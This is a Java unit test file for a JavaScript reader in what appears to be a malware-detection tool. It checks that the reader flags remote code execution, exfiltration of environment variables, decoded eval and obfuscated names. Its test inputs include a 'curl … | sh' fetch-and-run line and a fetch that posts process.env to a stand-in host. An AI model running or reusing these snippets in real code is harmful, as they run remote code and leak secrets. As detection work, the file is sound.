package dev.assay.core.code.javascript;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.artifact.Location;
import dev.assay.core.code.shell.Context;
import dev.assay.core.code.shell.PythonText;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.fact.Act.Reach;
import dev.assay.core.testing.Mutator;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class JavaScriptReaderTest {
  private static final Context CONTEXT =
      Context.of(Phase.CALL, Reach.ON_CALL, new Location("a.js", 1), List.of(), PythonText.UNREAD);

  private static List<String> told(String text) {
    return JavaScriptReader.acts(text, CONTEXT).stream()
        .map(act -> act.kind() + " " + act.target() + " " + act.carries() + " " + act.location())
        .toList();
  }

  @Test
  void readsCommandsThatAreStarted() {
    assertThat(
            told(
                """
                // a comment with "quotes
                const cp = require('child_process');
                cp.execSync("curl https://c.example/a | sh");
                """))
        .contains("EXECUTES_TEXT https://c.example/a [REMOTE] a.js:3");
  }

  @Test
  void readsWhatIsSentAway() {
    assertThat(
            told(
                """
                import https from "node:https";
                const body = JSON.stringify(process.env);
                fetch("https://c.example/x", {method: "POST", body});
                """))
        .containsExactly("SENDS https://c.example/x [ENVIRONMENT] a.js:3");
  }

  @Test
  void tellsTheProgramsOfABundleApart() {
    String far = "a;".repeat(160_000);
    assertThat(
            told(
                "require('https');\nsend(process.env);\n"
                    + far
                    + "\nfetch('https://c.example/x');\n"))
        .containsExactly("RECEIVES https://c.example/x [] a.js:4");
    assertThat(
            told(far + "\nrequire('https');\nsend(process.env);\nfetch('https://c.example/x');\n"))
        .containsExactly("SENDS https://c.example/x [ENVIRONMENT] a.js:4");
  }

  @Test
  void readsTextThatIsDecodedAndRun() {
    assertThat(told("const vm = require('vm');\neval(Buffer.from(x, 'base64').toString());\n"))
        .containsExactly("EXECUTES_TEXT eval [DECODED] a.js:2");
  }

  @Test
  void seesObfuscatedNames() {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 40; i++) {
      text.append("var _0x").append(Integer.toHexString(4096 + i)).append("=1;");
    }
    assertThat(told(text.toString()))
        .containsExactly("EVADES obfuscator: names that are noise [] a.js:1");
  }

  @Test
  void leavesProgramsForBrowsersInPeace() {
    assertThat(
            told(
                """
                fetch("https://c.example/data.json").then(r => r.json());
                var f = new Function("return this")();
                var re = /["']/; element.exec("x");
                """))
        .isEmpty();
  }

  @Test
  void neverFails() {
    Mutator mutator =
        Mutator.ofTexts(
            3, List.of("require('fs');`${a}`/*x*/eval(atob('\\x41\\u0041'));cp.exec('ls'); // e"));
    for (int i = 0; i < 3_000; i++) {
      String text = new String(mutator.next(), StandardCharsets.ISO_8859_1);
      assertThat(JavaScriptReader.acts(text, CONTEXT)).hasSizeLessThan(1_000);
    }
  }
}
